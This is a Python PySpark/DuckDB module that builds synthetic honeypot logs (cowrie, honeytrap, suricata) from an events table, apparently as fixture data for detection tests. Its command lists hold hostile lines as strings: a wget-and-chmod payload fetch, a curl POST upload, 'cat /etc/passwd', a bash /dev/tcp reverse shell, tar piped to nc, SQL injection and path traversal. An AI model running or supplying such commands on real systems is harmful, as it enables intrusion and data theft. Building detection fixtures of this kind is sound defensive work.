"""The driver's ``events`` seen as a log of normalised sensor events, in Spark and in SQL."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession, functions as F

COMMANDS = [
    "uname -a", "wget http://198.51.100.9/x.sh; chmod +x x.sh", "cat /etc/passwd", "ls -la", "curl -X POST http://198.51.100.9/up", "crontab -l", "ssh -L 80:10.0.0.5:80 host", "rm -rf /tmp/x",
]

#: DuckDB's form of ``event_log``, to stand before a query that reads ``log``.
LOG_SQL = (
    "WITH log AS (SELECT event_id AS id, ['cowrie', 'honeytrap', 'suricata'][(user_id % 3 + 1)::INT] AS log_source, ts AS timestamp, "
    "CASE event_type WHEN 'click' THEN 'ssh_command' WHEN 'error' THEN 'ssh_login_failed' WHEN 'purchase' THEN 'ssh_file_downloaded' WHEN 'signup' THEN 'ssh_login_success' ELSE 'http_request' END AS event_type, "
    "(user_id % 223 + 1)::VARCHAR || '.' || (user_id % 40)::VARCHAR || '.0.7' AS src_ip, '198.51.100.' || (user_id % 2)::VARCHAR AS dest_ip, k::INT AS dest_port, "
    "CASE WHEN event_type = 'click' THEN 'ssh' WHEN event_type = 'view' THEN 'http' END AS protocol, 'u' || user_id::VARCHAR || '-' || strftime(ts, '%d') AS session_id, "
    "CASE WHEN event_type IN ('error', 'signup') THEN ['root', 'admin', 'test', 'guest', 'user'][(k % 5 + 1)::INT] END AS username, "
    "CASE WHEN event_type IN ('error', 'signup') THEN ['root', 'admin', 'toor', 'x1', 'password', '1234', 'qwerty'][(k % 7 + 1)::INT] END AS password, "
    "CASE WHEN event_type = 'click' THEN [" + ", ".join(f"'{c}'" for c in COMMANDS) + "][(k % 8 + 1)::INT] WHEN event_type = 'purchase' THEN 'http://host' || (k % 5)::VARCHAR || '.example/f' || (k % 9)::VARCHAR END AS request_data, "
    "CASE WHEN event_type = 'view' THEN '/p/' || (k % 11)::VARCHAR END AS http_uri, (k % 4)::INT AS severity, value "
    "FROM (SELECT *, regexp_extract(props, '\"k\": *([0-9]+)', 1)::BIGINT AS k FROM events))\n"
)


def event_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = spark.read.parquet(f"{sf_dir}/events.parquet").withColumn("k", F.get_json_object("props", "$.k").cast("long"))
    kind, user, k = F.col("event_type"), F.col("user_id"), F.col("k")
    pick = lambda names, n: F.element_at(F.array(*map(F.lit, names)), (n % len(names) + 1).cast("int"))
    text = lambda c: c.cast("string")
    login = kind.isin("error", "signup")
    names = F.when(kind == "click", "ssh_command").when(kind == "error", "ssh_login_failed").when(kind == "purchase", "ssh_file_downloaded").when(kind == "signup", "ssh_login_success").otherwise("http_request")
    return e.select(
        F.col("event_id").alias("id"), pick(["cowrie", "honeytrap", "suricata"], user).alias("log_source"), F.col("ts").alias("timestamp"), names.alias("event_type"),
        F.concat(text(user % 223 + 1), F.lit("."), text(user % 40), F.lit(".0.7")).alias("src_ip"), F.concat(F.lit("198.51.100."), text(user % 2)).alias("dest_ip"), k.cast("int").alias("dest_port"),
        F.when(kind == "click", "ssh").when(kind == "view", "http").alias("protocol"), F.concat(F.lit("u"), text(user), F.lit("-"), F.date_format("ts", "dd")).alias("session_id"),
        F.when(login, pick(["root", "admin", "test", "guest", "user"], k)).alias("username"), F.when(login, pick(["root", "admin", "toor", "x1", "password", "1234", "qwerty"], k)).alias("password"),
        F.when(kind == "click", pick(COMMANDS, k)).when(kind == "purchase", F.concat(F.lit("http://host"), text(k % 5), F.lit(".example/f"), text(k % 9))).alias("request_data"),
        F.when(kind == "view", F.concat(F.lit("/p/"), text(k % 11))).alias("http_uri"), (k % 4).cast("int").alias("severity"), "value",
    )


#: Commands for every pattern flag, some with pipes, and an empty one.
MANY_COMMANDS = [
    *COMMANDS, "bash -i >& /dev/tcp/203.0.113.4/99 0>&1", "echo aGk= | base64 -d", "base64 -d x", "scp a b", "tar cz /etc | nc h 1", "q=union select 1", "cat ../../x", "echo `id`", "nmap 192.168.1.7",
    "socat TCP-LISTEN:1 x", "mkfifo p", "a && b", "openssl TLS x", "4142434445464748494a4b4c", "whoami", "hostname", "", "tar c . | ssh h", "rc.local",
]
QUERIES = ["a.example", "one.two.three.four.five.example", "x" * 60 + ".example", "b.example"]

#: DuckDB's form of ``wide_log``, to stand behind ``LOG_SQL``.
WIDE_SQL = (
    ", wide AS (SELECT id, log_source, timestamp, event_type, src_ip, dest_ip, CASE id % 5 WHEN 0 THEN 443 WHEN 1 THEN 22 ELSE (dest_port * 37) % 9000 END::INT AS dest_port, protocol, session_id, username, password, "
    "CASE WHEN event_type = 'ssh_command' THEN [" + ", ".join(f"'{c}'" for c in MANY_COMMANDS) + f"][((dest_port + id) % {len(MANY_COMMANDS)} + 1)::INT] ELSE request_data END AS request_data, http_uri, "
    "CASE WHEN event_type = 'http_request' AND id % 3 = 0 THEN [" + ", ".join(f"'{q}'" for q in QUERIES) + f"][(id % {len(QUERIES)} + 1)::INT] END AS dns_query FROM log)\n"
)


def wide_log(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``event_log`` with more commands, ports and name queries."""
    e, i = event_log(spark, sf_dir), F.col("id")
    pick = lambda names, n: F.element_at(F.array(*map(F.lit, names)), (n % len(names) + 1).cast("int"))
    port = F.when(i % 5 == 0, 443).when(i % 5 == 1, 22).otherwise(F.col("dest_port") * 37 % 9000)
    command = F.when(F.col("event_type") == "ssh_command", pick(MANY_COMMANDS, F.col("dest_port") + i)).otherwise(F.col("request_data"))
    name = F.when((F.col("event_type") == "http_request") & (i % 3 == 0), pick(QUERIES, i))
    return e.drop("severity", "value").withColumns({"request_data": command, "dest_port": port.cast("int"), "dns_query": name})
